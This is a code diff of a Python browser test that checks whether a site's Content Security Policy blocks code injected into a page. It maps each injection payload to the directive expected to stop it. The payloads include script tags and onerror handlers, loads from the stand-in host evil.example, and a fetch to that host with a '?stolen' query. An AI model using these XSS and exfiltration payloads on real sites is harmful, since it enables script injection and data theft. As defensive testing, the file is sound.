@@ -12,6 +12,7 @@ from tests.harness.device import PASSWORD, Device
 from tests.harness.people import People
 from tests.harness.servers import Site
 from tests.security.staff import SESSIONS, USERS, Staff
+from tests.waiting import DEADLINE
 
 pytestmark = IN_ONE_LOOP
 
@@ -104,32 +105,39 @@ async def test_injected_scripts_do_not_run_in_the_admin(production: Site, staff:
         visitor.complaints = [each for each in visitor.complaints if "404" not in each]  # the icon is missing
 
 
-@pytest.mark.parametrize(
-    "attempt",
-    [
-        "const s = document.createElement('script'); s.textContent = 'window.injected=1'; document.body.append(s)",
-        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.injected=1>')",
-        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'data:,window.injected=1'; document.body.append(s)",
-        "document.body.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')",
-        "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/></iframe>')",
-        "document.body.insertAdjacentHTML('beforeend', '<object data=https://evil.example/></object>')",
-        "fetch('https://evil.example/?stolen')",
-        "new WebSocket('wss://evil.example/')",
-    ],
-    ids=lambda attempt: attempt.split("'")[-2][:30],
-)
-async def test_the_policy_blocks_code_injected_into_the_page(production: Site, arrives: Arrives, attempt: str) -> None:
+# Code that a hole in the client would run, and the directive that blocks it.
+INJECTED = {
+    "const s = document.createElement('script'); s.textContent = 'window.injected=1'; document.body.append(s)": (
+        "script-src-elem"
+    ),
+    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.injected=1>')": "script-src-attr",
+    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)": (
+        "script-src-elem"
+    ),
+    "const s = document.createElement('script'); s.src = 'data:,window.injected=1'; document.body.append(s)": (
+        "script-src-elem"
+    ),
+    "document.body.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')": "base-uri",
+    "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/></iframe>')": "frame-src",
+    "document.body.insertAdjacentHTML('beforeend', '<object data=https://evil.example/></object>')": "object-src",
+    "fetch('https://evil.example/?stolen')": "connect-src",
+    "new WebSocket('wss://evil.example/')": "connect-src",
+}
+RUN_AND_REPORT = """within => new Promise(done => {
+    addEventListener('securitypolicyviolation', event => done(event.effectiveDirective), { once: true });
+    setTimeout(done, within, 'nothing was blocked');
+    try { CODE } catch {}
+})"""
+
+
+async def test_the_policy_blocks_code_injected_into_the_page(production: Site, arrives: Arrives) -> None:
     """The second defence: the test injects code as if the client had a hole."""
     visitor = await arrives(production.servers[0].port)
-    await visitor.page.evaluate(
-        "void (window.refused = new Promise(done => addEventListener('securitypolicyviolation',"
-        " event => done(event.effectiveDirective))))"
-    )
-    await visitor.page.evaluate(f"(() => {{ try {{ {attempt} }} catch {{}} }})()")
-    assert await visitor.page.evaluate("Promise.race([refused, new Promise(done => setTimeout(done, 3000, ''))])")
-    assert await visitor.page.evaluate("window.injected") is None
-    visitor.complaints.clear()
+    visitor.is_attacked = True
+    for code, directive in INJECTED.items():
+        blocked = await visitor.page.evaluate(RUN_AND_REPORT.replace("CODE", code), DEADLINE * 1_000)
+        assert blocked == directive, code
+        assert await visitor.page.evaluate("window.injected") is None, code
 
 
 async def test_a_script_cannot_read_any_credential(production: Site, arrives: Arrives) -> None:
